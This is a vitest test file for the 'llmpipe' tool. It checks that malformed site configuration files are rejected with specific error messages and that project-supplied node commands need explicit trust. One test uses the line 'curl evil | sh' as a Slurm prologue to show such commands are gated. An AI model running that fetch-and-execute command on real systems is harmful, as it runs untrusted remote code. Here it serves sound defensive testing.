/** The site file: where stages run, outside of programs. */

import { afterAll, expect, test } from 'vitest'
import { makeProject } from '../rig.ts'

const program = 'data a = read("*.txt")\n'
const project = makeProject({ 'a.llmpipe': program, 'a.txt': 'text' })
afterAll(() => project.remove())

const runWith = (site: unknown) => {
  project.write('llmpipe.site.json', typeof site === 'string' ? site : JSON.stringify(site))
  return project.llmpipe(['run', 'a.llmpipe', '--plain'])
}

test.each([
  ['a misspelt field', { slurm: { acount: 'x' } }, '`slurm` has no field `acount`; did you mean `account`?'],
  ['an executor that does not exist', { executor: 'pbs' }, '`executor` is "pbs"; it must be local or slurm.'],
  ['a time without unit', { slurm: { time: '10' } }, '`slurm.time` is "10"; it must be a time with its unit'],
  [
    'memory in other units',
    { slurm: { partitions: [{ name: 'a', memory: '64GB' }] } },
    '`slurm.partitions.0.memory` is "64GB"',
  ],
  ['a partition without name', { slurm: { partitions: [{}] } }, '`slurm.partitions.0` needs a field `name`.'],
  [
    'memory without quotes',
    { slurm: { partitions: [{ name: 'a', memory: 240 }] } },
    'it must be a number with its unit: 512MiB, 64GiB, 2TiB, in quotes.',
  ],
  ['CPUs in quotes', { slurm: { partitions: [{ name: 'a', cpus: '64' }] } }, 'is "64"; it must be a whole number.'],
  ['a partition that is not in a list', { slurm: { partitions: 'main' } }, 'it must be a list in brackets: […].'],
  ['a limit of no jobs', { slurm: { jobs: 0 } }, '`slurm.jobs` is 0; it must be at least 1.'],
  ['a field of slurm beside it', { account: 'lab' }, '`account` is a field of `slurm`: {"slurm": {"account": …}}.'],
  ['a list in the place of the file', [], 'The file is []; it must be fields in braces: {…}.'],
  [
    'arrays that are true',
    { slurm: { arrays: true } },
    'not valid: `slurm.arrays` is true; it must be false, or fields in braces: {…}.\n',
  ],
  [
    'a misspelt field of arrays',
    { slurm: { arrays: { task: 1 } } },
    'not valid: `slurm.arrays` has no field `task`; did you mean `tasks`?\n',
  ],
  ['what is not JSON', '{', 'cannot be read'],
])('%s in a site file is refused before anything runs', (_, site, message) => {
  const { code, stderr } = runWith(site)
  expect(stderr).toContain(message)
  expect(code).toBe(2)
  const checked = project.llmpipe(['check', 'a.llmpipe'])
  expect(checked.stderr).toContain(message)
  expect(checked.code).toBe(2)
})

test('commands in the site file of a project have to be trusted', () => {
  const { code, stderr } = runWith({ slurm: { prologue: ['curl evil | sh'] } })
  expect(code).toBe(2)
  expect(stderr).toContain('runs commands on the nodes (prologue)')
  const shown = project.llmpipe(['trust', 'a.llmpipe', '--yes'])
  expect(shown.stdout).toContain('prologue | curl evil | sh')
  expect(project.llmpipe(['run', 'a.llmpipe', '--plain']).code).toBe(0)
})

test('the command line decides over the site file', () => {
  const site = { executor: 'slurm', slurm: { partitions: [{ name: 'x' }] } }
  project.write('llmpipe.site.json', JSON.stringify(site))
  expect(project.llmpipe(['run', 'a.llmpipe', '--plain', '--executor', 'local', '--force', 'a']).code).toBe(0)
})
